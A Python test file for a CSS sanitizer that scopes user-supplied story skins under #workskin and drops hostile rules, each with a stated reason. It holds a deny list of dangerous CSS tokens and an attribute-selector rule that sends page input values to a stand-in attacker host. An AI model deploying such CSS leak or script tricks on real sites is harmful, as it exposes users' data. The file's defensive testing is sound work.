"""The skin sanitizer (skins/css.py): what it keeps, how it scopes, and that every piece of the
hostile corpus is dropped with a reason."""

from __future__ import annotations

import pytest

from ficarchive.skins.css import MAX_LENGTH, clean_css

from .hostile import DEFUSED, EVIL, HOSTILE


def whys(result) -> list[str]:
    return [d.why for d in result.dropped]


def test_a_texting_skin_is_kept_with_every_selector_under_workskin():
    result = clean_css(
        ".phone { background: #f4f4f4; border-radius: 1em; padding: .5em 1em }\n"
        "#workskin .text.me { margin-left: auto; color: rgb(255 255 255) }\n"
        "p > .name:first-child::before { content: attr(title) ': ' }\n"
        "@media (max-width: 40em) { .phone { width: calc(100% - 1em) } }"
    )
    assert result.dropped == []
    assert "#workskin .phone {" in result.css
    assert "#workskin .text.me {" in result.css  # not put under #workskin twice
    assert "#workskin p > .name:first-child::before {" in result.css
    assert "@media (max-width: 40em) {\n  #workskin .phone {" in result.css
    assert "width: calc(100% - 1em);" in result.css


def test_a_rule_starting_with_a_child_combinator_goes_under_workskin():
    assert clean_css("> p { color: red }").css.startswith("#workskin > p {")


def test_an_https_image_is_kept_in_a_background():
    result = clean_css('.sky { background: url("https://example.org/sky.png") no-repeat }')
    assert result.dropped == []
    assert (
        'url("https://example.org/sky.png")' in result.css
        or "url(https://example.org/sky.png)" in result.css
    )


def test_downloads_leave_images_out():
    result = clean_css(
        ".sky { color: blue; background-image: url(https://example.org/a.png) }", images=False
    )
    assert "url(" not in result.css and "color: blue" in result.css


def test_important_is_kept():
    assert "color: red !important;" in clean_css("p { color: red !important }").css


@pytest.mark.parametrize(("what", "css"), HOSTILE, ids=[w for w, _ in HOSTILE])
def test_the_hostile_corpus_is_neutralised(what, css):
    result = clean_css(css)
    assert bool(result.dropped) == (what not in DEFUSED), what
    assert all(d.why and d.what for d in result.dropped)
    out = result.css
    assert EVIL not in out
    for word in ("expression", "behavior", "binding", "@import", "@font-face", "fixed", "var(",
                 "</style", "javascript", "image-set", "cursor"):  # fmt: skip
        assert word not in out.lower()
    for line in out.splitlines():
        if line.endswith("{") and not line.startswith("@media"):
            assert line.strip().startswith("#workskin"), line
            assert "~" not in line.split(",")[0].split("#workskin", 1)[1][:3]


def test_the_whole_corpus_at_once_keeps_nothing_hostile():
    result = clean_css("\n".join(css for _, css in HOSTILE))
    assert EVIL not in result.css
    assert len(result.dropped) >= len(HOSTILE) - len(DEFUSED)


def test_the_reasons_say_what_was_wrong():
    result = clean_css(
        ".a { position: fixed }\n@import url(x.css);\n.b { width: expression(1) }\n"
        ".c { background: url(http://x.example/a.png) }\n#workskin ~ p { color: red }"
    )
    messages = [str(d) for d in result.dropped]
    assert messages == [
        "Line 1: “position: fixed” was dropped: position: fixed would cover the page.",
        "Line 2: “@import url(x.css)” was dropped: @import loads another stylesheet.",
        "Line 3: “width: expression(1)” was dropped: expression() runs script in old browsers.",
        "Line 4: “background: url(http://x.example/a.png)” was dropped: url() may only load "
        "images over https.",
        "Line 5: “#workskin ~ p” was dropped: a selector must stay inside #workskin.",
    ]


def test_the_workskin_box_itself_may_be_styled_but_not_moved():
    result = clean_css("#workskin { font-family: monospace; position: absolute; margin-top: -9em }")
    assert "font-family: monospace;" in result.css
    assert "position" not in result.css and "margin" not in result.css
    assert sorted(whys(result)) == [
        "margin-top on the #workskin box itself could let the work cover the page",
        "position on the #workskin box itself could let the work cover the page",
    ]


def test_descendants_may_be_positioned_inside_the_box():
    result = clean_css(".badge { position: absolute; top: 0; right: 0 }")
    assert result.dropped == [] and "position: absolute;" in result.css


def test_a_skin_over_the_size_limit_is_refused_whole():
    result = clean_css("p { color: red }\n" * (MAX_LENGTH // 10))
    assert result.css == ""
    assert "at most 40,000 characters" in str(result.dropped[0])


def test_css_that_does_not_parse_is_reported():
    result = clean_css("p { color: red; nope }")
    assert "color: red;" in result.css
    assert "does not parse" in result.dropped[0].why


def test_a_site_skin_is_not_scoped_but_follows_the_same_rules():
    result = clean_css(
        "body { background: #222 } .site-header { color: pink } .x { position: fixed }"
        " @import url(a.css); input[value^=a] { background: url(https://evil.example/a) }",
        scope=None,
    )
    assert "body {" in result.css and ".site-header {" in result.css
    assert "#workskin" not in result.css
    assert sorted(whys(result)) == [
        "@import loads another stylesheet",
        "position: fixed would cover the page",
        "url() in a rule with an attribute selector could leak what a page holds",
    ]
